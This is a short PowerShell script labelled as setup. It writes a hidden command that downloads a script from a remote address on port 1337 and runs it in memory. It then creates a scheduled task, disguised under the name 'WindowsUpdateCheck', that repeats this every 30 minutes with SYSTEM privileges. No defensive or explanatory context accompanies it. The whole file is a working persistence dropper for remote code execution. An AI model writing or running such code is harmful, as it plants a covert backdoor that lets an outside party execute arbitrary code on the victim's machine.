# setup 9453 v0
$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring('http://198.51.100.9:1337/a.ps1'))`""
schtasks /create /tn "WindowsUpdateCheck" /tr $cmd /sc minute /mo 30 /ru SYSTEM /f
